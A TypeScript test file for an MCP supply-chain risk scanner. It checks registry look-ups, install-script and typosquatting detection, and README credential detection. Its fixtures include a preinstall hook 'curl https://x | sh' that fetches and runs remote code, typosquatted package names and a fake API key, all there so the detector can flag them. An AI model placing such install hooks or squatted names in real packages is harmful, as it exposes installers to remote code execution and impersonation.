/**
 * Registry and supply-chain signs: the HTTP client (timeout, user agent, base URLs, offline), GitHub and npm
 * look-ups against a local server that answers like their APIs (200, 301, 404), and the offline signs
 * (install scripts, repository, squatting, README credentials).
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { assess } from '../../src/assess.js';
import { HttpClient, NetworkError, OfflineError } from '../../src/ecosystem/http.js';
import { editDistance, githubSigns, loadKnownServers, networkSigns, packageSigns, parseRepositoryUrl, squatting } from '../../src/ecosystem/registry.js';
import { EMITTED_CWES } from '../../src/kb/emitted-cwes.js';

const loc = { file: 'package.json', line: 1, column: 1 };

/** Answers like api.github.com, registry.npmjs.org and pypi.org for a few names. */
function fakeApis(): { server: Server; seen: IncomingMessage[] } {
  const seen: IncomingMessage[] = [];
  const json = (res: import('node:http').ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) => {
    res.writeHead(status, { 'content-type': 'application/json', ...headers });
    res.end(JSON.stringify(body));
  };
  const server = createServer((req, res) => {
    seen.push(req);
    const u = req.url ?? '';
    switch (u) {
      case '/gh/repos/good-owner/good-repo':
        return json(res, 200, { full_name: 'good-owner/good-repo' });
      case '/gh/repos/old-owner/tool':
        return json(res, 301, { message: 'Moved Permanently', url: 'x' }, { location: '/gh/repositories/4242' });
      case '/gh/repositories/4242':
        return json(res, 200, { full_name: 'new-owner/tool' });
      case '/gh/repos/Case-Owner/renamed':
      case '/gh/repos/case-owner/renamed':
        return json(res, 200, { full_name: 'case-owner/renamed-later' });
      case '/gh/repos/ghost-owner/tool':
      case '/gh/users/ghost-owner':
      case '/gh/repos/alive-owner/deleted':
        return json(res, 404, { message: 'Not Found' });
      case '/gh/users/alive-owner':
        return json(res, 200, { login: 'alive-owner' });
      case '/gh/repos/limited/x':
        return json(res, 403, { message: 'API rate limit exceeded' });
      case '/npm/@acme%2Fweather-mcp':
        return json(res, 200, { name: '@acme/weather-mcp', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: '@acme/weather-mcp', version: '1.0.0', repository: { type: 'git', url: 'git+https://github.com/ghost-owner/tool.git' } } } });
      case '/npm/unclaimed-mcp-server':
        return json(res, 404, { error: 'Not found' });
      case '/pypi/pypi/mcp-weather/json':
        return json(res, 200, { info: { name: 'mcp-weather', project_urls: { Source: 'https://github.com/old-owner/tool' } } });
      case '/slow':
        return; // never answers
      default:
        return json(res, 404, { message: 'Not Found' });
    }
  });
  return { server, seen };
}

describe('registry look-ups against a local API server', () => {
  const { server, seen } = fakeApis();
  let base = '';
  let http: HttpClient;
  before(async () => {
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    http = new HttpClient({ baseUrls: { github: `${base}/gh`, npm: `${base}/npm`, pypi: `${base}/pypi` }, timeoutMs: 2000 });
  });
  after(() => {
    server.closeAllConnections();
    server.close();
  });

  it('sends a user agent and no redirects are followed', async () => {
    const r = await http.get('github', '/repos/old-owner/tool');
    assert.equal(r.status, 301);
    assert.equal(r.location, '/gh/repositories/4242');
    assert.match(String(seen.at(-1)!.headers['user-agent']), /^mcp-risk\//);
  });
  it('200 with the same name: nothing', async () => {
    assert.deepEqual(await githubSigns(http, { host: 'github.com', owner: 'good-owner', repo: 'good-repo' }, loc, 'x'), []);
  });
  it('301: the repository moved (redirect hijack)', async () => {
    const [f] = await githubSigns(http, { host: 'github.com', owner: 'old-owner', repo: 'tool' }, loc, '`pkg`');
    assert.equal(f!.ruleId, 'mcp-risk/supply-chain-repository-moved');
    assert.match(f!.message, /now redirects to github\.com\/new-owner\/tool/);
  });
  it('200 under another name: moved too', async () => {
    const [f] = await githubSigns(http, { host: 'github.com', owner: 'case-owner', repo: 'renamed' }, loc, '`pkg`');
    assert.equal(f!.ruleId, 'mcp-risk/supply-chain-repository-moved');
  });
  it('404 and no owner: re-registrable owner', async () => {
    const [f] = await githubSigns(http, { host: 'github.com', owner: 'ghost-owner', repo: 'tool' }, loc, '`pkg`');
    assert.equal(f!.ruleId, 'mcp-risk/supply-chain-repository-owner-missing');
    assert.equal(f!.severity, 'high');
  });
  it('404 with an existing owner: repository not found', async () => {
    const [f] = await githubSigns(http, { host: 'github.com', owner: 'alive-owner', repo: 'deleted' }, loc, '`pkg`');
    assert.equal(f!.ruleId, 'mcp-risk/supply-chain-repository-not-found');
  });
  it('rate limit: a warning, no finding', async () => {
    const r = await networkSigns(http, { ecosystem: 'npm', repository: { host: 'github.com', owner: 'limited', repo: 'x' }, at: loc });
    assert.deepEqual(r.findings, []);
    assert.match(r.warnings[0]!.message, /rate limit/);
  });
  it('npm: the repository comes from the registry document; an unregistered name is reported for host entries', async () => {
    const r = await networkSigns(http, { name: '@acme/weather-mcp', ecosystem: 'npm', reportUnregistered: true, at: loc });
    assert.deepEqual(r.findings.map((f) => f.ruleId), ['mcp-risk/supply-chain-repository-owner-missing']);
    const u = await networkSigns(http, { name: 'unclaimed-mcp-server', ecosystem: 'npm', reportUnregistered: true, at: loc });
    assert.deepEqual(u.findings.map((f) => f.ruleId), ['mcp-risk/supply-chain-unregistered-package']);
  });
  it('PyPI: project URLs', async () => {
    const r = await networkSigns(http, { name: 'mcp-weather', ecosystem: 'pypi', at: loc });
    assert.deepEqual(r.findings.map((f) => f.ruleId), ['mcp-risk/supply-chain-repository-moved']);
  });
  it('responses are cached per client', async () => {
    const n = seen.length;
    await http.get('github', '/repos/good-owner/good-repo');
    assert.equal(seen.length, n);
  });
  it('timeout → NetworkError', async () => {
    const slow = new HttpClient({ baseUrls: { github: base }, timeoutMs: 200 });
    await assert.rejects(slow.get('github', '/slow'), (e: unknown) => e instanceof NetworkError && /timed out/.test(e.message));
  });
  it('unreachable → NetworkError, and networkSigns turns it into a warning', async () => {
    const down = new HttpClient({ baseUrls: { github: 'http://127.0.0.1:9', npm: 'http://127.0.0.1:9' }, timeoutMs: 2000 });
    const r = await networkSigns(down, { name: 'x', ecosystem: 'npm', at: loc });
    assert.deepEqual(r.findings, []);
    assert.match(r.warnings[0]!.message, /cannot reach/);
  });
  it('offline: no request at all', async () => {
    const off = new HttpClient({ offline: true, baseUrls: { github: `${base}/gh`, npm: `${base}/npm` } });
    const n = seen.length;
    await assert.rejects(off.get('npm', '/x'), OfflineError);
    const r = await networkSigns(off, { name: 'unclaimed-mcp-server', ecosystem: 'npm', reportUnregistered: true, repository: { host: 'github.com', owner: 'ghost-owner', repo: 'tool' }, at: loc });
    assert.deepEqual(r, { findings: [], warnings: [] });
    assert.equal(off.requests, 0);
    assert.equal(seen.length, n);
  });
  it('base URLs from the environment', () => {
    const c = new HttpClient({ env: { MCP_RISK_GITHUB_API: 'http://gh.local/', MCP_RISK_NPM_REGISTRY: 'http://npm.local' } });
    assert.equal(c.baseUrl('github'), 'http://gh.local');
    assert.equal(c.baseUrl('npm'), 'http://npm.local');
    assert.equal(c.baseUrl('pypi'), 'https://pypi.org');
  });

  it('scan --registry-checks: package signs plus look-ups of its repository', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'mcp-risk-pkg-'));
    try {
      const pkg = path.join(dir, 'package');
      mkdirSync(pkg);
      writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: '@modelcontextprotocoI/server-filesystem', version: '1.0.0', repository: 'github:ghost-owner/tool', scripts: { postinstall: 'node collect.js' } }, null, 2));
      writeFileSync(path.join(pkg, 'index.js'), "console.log('hi');\n");
      const tgz = path.join(dir, 'pkg.tgz');
      const { create } = await import('tar');
      await create({ gzip: true, file: tgz, cwd: dir }, ['package']);
      const a = await assess(tgz, { cacheDir: path.join(dir, 'cache'), ecosystem: { registryChecks: true, http: { baseUrls: { github: `${base}/gh`, npm: `${base}/npm` } } } });
      const ids = a.findings.map((f) => f.ruleId).sort();
      assert.deepEqual(ids, ['mcp-risk/supply-chain-install-script', 'mcp-risk/supply-chain-name-squatting', 'mcp-risk/supply-chain-repository-mismatch', 'mcp-risk/supply-chain-repository-owner-missing']);
      for (const f of a.findings) assert.ok(a.risk!.findings.some((r) => r.findingId === f.id));
      const plain = await assess(tgz, { cacheDir: path.join(dir, 'cache') });
      assert.deepEqual(plain.findings, [], 'no supply-chain signs without --registry-checks');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('offline package signs', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'mcp-risk-signs-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  const pkg = (name: string, json: Record<string, unknown>, readme?: string) => {
    const root = path.join(dir, name);
    mkdirSync(root, { recursive: true });
    writeFileSync(path.join(root, 'package.json'), JSON.stringify(json, null, 2));
    if (readme !== undefined) writeFileSync(path.join(root, 'README.md'), readme);
    return root;
  };

  it('install scripts, missing repository', async () => {
    const r = await packageSigns({ ecosystem: 'npm', root: pkg('a', { name: 'weather-mcp-thing', scripts: { preinstall: 'curl https://x | sh', test: 'node t' } }) });
    assert.deepEqual(r.findings.map((f) => f.ruleId).sort(), ['mcp-risk/supply-chain-install-script', 'mcp-risk/supply-chain-no-repository']);
    const inst = r.findings.find((f) => f.ruleId.endsWith('install-script'))!;
    assert.equal(inst.location.line, 4);
    assert.match(inst.message, /`preinstall` runs `curl https:\/\/x \| sh`/);
  });
  it('a repository of well-known servers claimed by another package', async () => {
    const r = await packageSigns({ ecosystem: 'npm', root: pkg('b', { name: 'mcp-fs-helper', repository: 'https://github.com/modelcontextprotocol/servers' }) });
    const f = r.findings.find((x) => x.ruleId === 'mcp-risk/supply-chain-repository-mismatch')!;
    assert.equal(f.severity, 'high');
    assert.match(f.message, /@modelcontextprotocol\/server-/);
    const own = await packageSigns({ ecosystem: 'npm', root: pkg('c', { name: '@modelcontextprotocol/server-memory', repository: { type: 'git', url: 'https://github.com/modelcontextprotocol/servers.git' } }) });
    assert.deepEqual(own.findings, []);
    const scopeOk = await packageSigns({ ecosystem: 'npm', root: pkg('d', { name: '@modelcontextprotocol/server-new', repository: 'https://github.com/modelcontextprotocol/servers' }) });
    assert.deepEqual(scopeOk.findings.map((x) => x.ruleId), []);
  });
  it('scope and owner that differ (low)', async () => {
    const r = await packageSigns({ ecosystem: 'npm', root: pkg('e', { name: '@acme/weather-mcp', repository: 'https://github.com/zzyzx/weather' }) });
    assert.deepEqual(r.findings.map((f) => `${f.ruleId}:${f.severity}`), ['mcp-risk/supply-chain-repository-mismatch:low']);
    const similar = await packageSigns({ ecosystem: 'npm', root: pkg('f', { name: '@benborla29/weather-tool', repository: 'github:benborla/weather-tool' }) });
    assert.deepEqual(similar.findings, []);
  });
  it('README credentials (real-looking only)', async () => {
    const readme = [
      '```json',
      '{ "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "<YOUR_TOKEN>" } }',
      '{ "env": { "SLACK_BOT_TOKEN": "xoxb-your-bot-token" } }',
      '{ "env": { "API_KEY": "sk-proj-Zt8Kq3Lw9Xv2Nc7Rb4Ym6Pd1Fh5Jg0Ts8Uq2Wn4Ex6Ra9Cv" } }',
      '```',
    ].join('\n');
    const r = await packageSigns({ ecosystem: 'npm', root: pkg('g', { name: 'readme-mcp', repository: 'github:readme-mcp/readme-mcp' }, readme) });
    const f = r.findings.filter((x) => x.ruleId === 'mcp-risk/supply-chain-readme-credential');
    assert.equal(f.length, 1);
    assert.equal(f[0]!.location.line, 4);
    assert.doesNotMatch(JSON.stringify(f), /Zt8Kq3Lw9Xv2Nc7Rb4Ym6Pd1Fh5Jg0Ts8Uq2Wn4Ex6Ra9Cv/);
  });
  it('rules use CWEs of the knowledge base', async () => {
    const { REGISTRY_RULES } = await import('../../src/ecosystem/registry.js');
    const { HOST_RULES } = await import('../../src/ecosystem/hosts.js');
    const { CROSS_RULES } = await import('../../src/ecosystem/cross.js');
    const { PIN_RULES } = await import('../../src/ecosystem/pin.js');
    const { METADATA_RULES } = await import('../../src/ecosystem/metadata.js');
    for (const r of [...REGISTRY_RULES, ...HOST_RULES, ...CROSS_RULES, ...PIN_RULES, ...METADATA_RULES]) assert.ok(EMITTED_CWES.includes(r.cwe), `${r.id}: CWE-${r.cwe}`);
  });
});

describe('squatting', () => {
  const known = loadKnownServers();
  it('the known list holds the landscape and the official servers', () => {
    assert.ok(known.length >= 150);
    assert.ok(known.some((k) => k.name === '@modelcontextprotocol/server-filesystem' && k.official));
    assert.ok(known.some((k) => k.name === 'mcp-server-fetch' && k.ecosystem === 'pypi'));
  });
  const how = (n: string, eco: 'npm' | 'pypi' = 'npm') => squatting(n, eco, known)?.how;
  it('typos, scope typos, scope swaps, affixes, other ecosystem', () => {
    assert.equal(how('@modelcontextprotocol/server-filesystems'), 'typo');
    assert.equal(how('@modelcontextprotoco1/server-filesystem'), 'scope-typo');
    assert.equal(how('@model-context-protocol/server-github'), 'scope-typo');
    assert.equal(how('server-filesystem'), 'scope-swap');
    assert.equal(how('@evil/server-filesystem'), 'scope-swap');
    assert.equal(how('playwright-mcp'), 'scope-swap');
    assert.equal(how('mcp-server-filesystem'), 'affix');
    assert.equal(how('firecrawl-mcp-server'), 'affix');
    assert.equal(how('tavly-mcp'), 'typo');
    assert.equal(how('mcp-server-fetch'), 'other-ecosystem');
    assert.equal(how('mcp-server-fetchh', 'pypi'), 'typo');
  });
  it('known names, their PEP 503 spellings, generic and unrelated names are not squatting', () => {
    for (const k of known) assert.equal(squatting(k.name, k.ecosystem, known), undefined, k.name);
    assert.equal(how('mcp_server_fetch', 'pypi'), undefined);
    assert.equal(how('@acme/mcp'), undefined);
    assert.equal(how('my-weather-mcp'), undefined);
    assert.equal(how('@acme/weather'), undefined);
  });
  it('edit distance with transpositions', () => {
    assert.equal(editDistance('abc', 'acb'), 1);
    assert.equal(editDistance('kitten', 'sitting'), 3);
    assert.equal(editDistance('a', 'abcdefgh', 2), 3);
  });
  it('repository URLs', () => {
    assert.deepEqual(parseRepositoryUrl('git+https://github.com/Owner/Repo.git'), { host: 'github.com', owner: 'owner', repo: 'repo' });
    assert.deepEqual(parseRepositoryUrl({ type: 'git', url: 'git@github.com:a/b.git' }), { host: 'github.com', owner: 'a', repo: 'b' });
    assert.deepEqual(parseRepositoryUrl('github:a/b'), { host: 'github.com', owner: 'a', repo: 'b' });
    assert.deepEqual(parseRepositoryUrl('a/b'), { host: 'github.com', owner: 'a', repo: 'b' });
    assert.deepEqual(parseRepositoryUrl('git+ssh://git@github.com/makenotion/notion-mcp-server.git'), { host: 'github.com', owner: 'makenotion', repo: 'notion-mcp-server' });
    assert.deepEqual(parseRepositoryUrl('https://gitlab.com/g/p/-/tree/main'), { host: 'gitlab.com', owner: 'g', repo: 'p' });
    assert.equal(parseRepositoryUrl(''), undefined);
    assert.equal(parseRepositoryUrl(42), undefined);
  });
});
